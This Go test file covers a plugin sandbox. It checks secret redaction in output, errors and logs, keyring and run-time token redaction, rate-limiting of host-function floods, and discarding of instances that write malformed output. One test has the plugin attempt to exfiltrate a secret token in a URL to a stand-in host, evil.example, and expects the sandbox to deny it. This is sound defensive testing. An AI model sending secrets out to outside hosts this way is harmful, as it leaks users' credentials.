package sandbox

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func TestSecretsReachThePluginButNotLogsOrErrors(t *testing.T) {
	t.Parallel()
	const secret = "s3cr3t-token-value"
	var logs logRecorder
	p := load(t, "guest", Options{
		Grants: Grants{
			Config:       map[string]string{"plain": "visible"},
			Secrets:      map[string]string{"api_key": secret},
			AllowedHosts: []string{"example.com"},
		},
		Logger: logs.logger(),
	})
	// The plugin reads the secret (its output is redacted: the value was
	// exactly the secret).
	if got := call(t, p, "config", "api_key"); got != "[REDACTED]" {
		t.Errorf("config_get(api_key) output %q", got)
	}
	if got := call(t, p, "echo", "a "+secret+" b"); got != "a [REDACTED] b" {
		t.Errorf("output %q", got)
	}
	if got := call(t, p, "config", "plain"); got != "visible" {
		t.Errorf("config_get(plain) = %q", got)
	}
	// The plugin puts the secret in its error, and in a URL it may not reach.
	_, err := p.Call(t.Context(), "fail", []byte("key="+secret))
	if ce := wantKind(t, err, KindPlugin); ce.Message != "bad input: key=[REDACTED]" {
		t.Errorf("error message %q", ce.Message)
	}
	_, err = p.Call(t.Context(), "http", []byte(`{"url":"https://evil.example/?k=`+secret+`"}`))
	if ce := wantKind(t, err, KindDenied); strings.Contains(ce.Message, secret) || !strings.Contains(ce.Message, "[REDACTED]") {
		t.Errorf("refusal message %q", ce.Message)
	}
	// Whatever the sandbox logs for the plugin is redacted too.
	p.logger.Warn("leak "+secret, "err", errors.New("wrapped "+secret), "s", secret, slog.Group("g", "x", secret))
	logged := logs.buf.String()
	if strings.Contains(logged, secret) || !strings.Contains(logged, "leak [REDACTED]") {
		t.Errorf("log: %s", logged)
	}

	// A plugin without the grant reads nothing.
	other := load(t, "guest", Options{})
	if _, err := other.Call(t.Context(), "config", []byte("api_key")); err == nil {
		t.Error("a plugin without the secret read it")
	}
	// A key may not be both a config value and a secret.
	_, err = engine.Load(t.Context(), "guest", testWasm(t, "guest"), Options{Grants: Grants{
		Config: map[string]string{"k": "a"}, Secrets: map[string]string{"k": "b"},
	}})
	if err == nil || !strings.Contains(err.Error(), `config key "k" is both a config value and a secret`) || strings.Contains(err.Error(), "b\"") {
		t.Errorf("duplicate key: %v", err)
	}
}

// TestRedactedValuesAreRedactedButNotConfig: a value the plugin gets
// otherwise than with config_get (get_keyring_secret's OS keyring entries)
// is redacted like a secret's, and config_get does not read it.
func TestRedactedValuesAreRedactedButNotConfig(t *testing.T) {
	t.Parallel()
	const value = "keyring-value-42"
	var logs logRecorder
	p := load(t, "guest", Options{Grants: Grants{Redacted: []string{value, ""}}, Logger: logs.logger()})
	if got := call(t, p, "echo", "a "+value+" b"); got != "a [REDACTED] b" {
		t.Errorf("output %q", got)
	}
	_, err := p.Call(t.Context(), "fail", []byte("key="+value))
	if ce := wantKind(t, err, KindPlugin); ce.Message != "bad input: key=[REDACTED]" {
		t.Errorf("error message %q", ce.Message)
	}
	p.logger.Warn("leak " + value)
	if logged := logs.buf.String(); strings.Contains(logged, value) {
		t.Errorf("log: %s", logged)
	}
	if out, err := p.Call(t.Context(), "config", []byte(value)); err == nil {
		t.Errorf("config_get read a redacted value: %q", out)
	}
}

func TestHostCallFloodIsStopped(t *testing.T) {
	t.Parallel()
	var logs logRecorder
	var calls atomic.Int64
	p := load(t, "hostcall", Options{
		Limits: Limits{HostCallsPerSecond: 100},
		HostFunctions: hostcallFns(map[string]hostFn{"notify": func(context.Context, []byte) ([]byte, error) {
			calls.Add(1)
			return nil, errors.New("notify refused")
		}}),
		Logger: logs.logger(),
	})
	start := time.Now()
	_, err := p.Call(t.Context(), "call_notify_many", []byte("100000"))
	elapsed := time.Since(start)
	ce := wantKind(t, err, KindTrap)
	if !strings.Contains(ce.Message, "host function notify: more than 100 host function calls per second (host_calls_per_second); the call is stopped") {
		t.Errorf("flood: %q", ce.Message)
	}
	// The burst of 100, and what the bucket refilled at 100 a second while
	// the flood ran (a few more on a slow or loaded machine), then no more.
	ran := calls.Load()
	if most := 100 + int64(100*elapsed.Seconds()) + 1; ran < 100 || ran > most {
		t.Errorf("%d host calls ran in %v, want the burst of 100 and at most %d", ran, elapsed, most)
	}
	// Each failure was logged within the call's log budget, not without
	// end.
	if n := len(logs.records(t, "host function failed")); n == 0 || int64(n) > ran {
		t.Errorf("%d failure records for %d calls", n, ran)
	}
	// Within the rate, calls go through.
	if _, err := p.Call(t.Context(), "call_notify_many", []byte("50")); err != nil {
		t.Errorf("50 calls: %v", err)
	}
}

func TestOutputCheckDiscardsTheInstance(t *testing.T) {
	t.Parallel()
	p := load(t, "guest", Options{Limits: Limits{MaxInstances: 1}, CheckOutput: func(export string, out []byte) error {
		if export == "echo" && string(out) == "bad" {
			return errors.New("not good")
		}
		return nil
	}})
	call(t, p, "echo", "x") // the instance exists
	_, err := p.Call(t.Context(), "echo", []byte("bad"))
	if ce := wantKind(t, err, KindMalformedOutput); ce.Message != "not good" {
		t.Errorf("got %q", ce.Message)
	}
	p.pool.mu.Lock()
	idle := len(p.pool.idle)
	p.pool.mu.Unlock()
	if idle != 0 {
		t.Errorf("the instance that wrote malformed output was kept")
	}
	if out, err := p.Call(t.Context(), "echo", []byte("good")); err != nil || string(out) != "good" {
		t.Errorf("after malformed output: %q, %v", out, err)
	}
}

// Redact replaces every secret value and every Redacted value, also as
// JSON escapes it within a string.
func TestGrantsRedactSecretsAsWrittenAndAsJSONEscapesThem(t *testing.T) {
	g := Grants{Secrets: map[string]string{"TOKEN": `t0k"en`}, Redacted: []string{"keyring-value"}}
	in := `{"a":"t0k\"en","b":"keyring-value","c":"plain"} t0k"en`
	want := `{"a":"[REDACTED]","b":"[REDACTED]","c":"plain"} [REDACTED]`
	if got := g.Redact(in); got != want {
		t.Errorf("Redact:\n got %s\nwant %s", got, want)
	}
	if got := (Grants{}).Redact(in); got != in {
		t.Errorf("without secrets: %s", got)
	}
}

// TestValuesLearnedWhileRunningAreRedactedFromThenOn: a value added to a
// plugin's Redactions after it was made (a token broker's access token)
// is redacted from its output, errors and logs from then on, as written
// and as JSON escapes it; a plugin with no Redactions and nil ones are
// left alone.
func TestValuesLearnedWhileRunningAreRedactedFromThenOn(t *testing.T) {
	t.Parallel()
	const token = `at-1b2c3d"4e5f`
	var logs logRecorder
	learned := new(Redactions)
	p := load(t, "guest", Options{Redactions: learned, Logger: logs.logger()})
	if got := call(t, p, "echo", "a "+token+" b"); got != "a "+token+" b" {
		t.Errorf("before the token was handed out: %q", got)
	}
	learned.Add(token)
	learned.Add("")
	if got := call(t, p, "echo", "a "+token+" b"); got != "a [REDACTED] b" {
		t.Errorf("output %q", got)
	}
	if got := call(t, p, "echo", `{"t":"at-1b2c3d\"4e5f"}`); got != `{"t":"[REDACTED]"}` {
		t.Errorf("output as JSON %q", got)
	}
	_, err := p.Call(t.Context(), "fail", []byte("key="+token))
	if ce := wantKind(t, err, KindPlugin); ce.Message != "bad input: key=[REDACTED]" {
		t.Errorf("error message %q", ce.Message)
	}
	p.logger.Warn("leak " + token)
	if logged := logs.buf.String(); strings.Contains(logged, token) || !strings.Contains(logged, "leak [REDACTED]") {
		t.Errorf("log: %s", logged)
	}

	var none *Redactions
	none.Add(token)
	if got := none.Replace(token); got != token {
		t.Errorf("nil Redactions: %q", got)
	}
	// Past maxRedactions values, the oldest are forgotten.
	many := new(Redactions)
	for i := range maxRedactions + 2 {
		many.Add(fmt.Sprintf("token-%04d", i))
	}
	if got := many.Replace("token-0000 token-0002 token-0257"); got != "token-0000 [REDACTED] [REDACTED]" {
		t.Errorf("after %d values: %q", maxRedactions+2, got)
	}
}
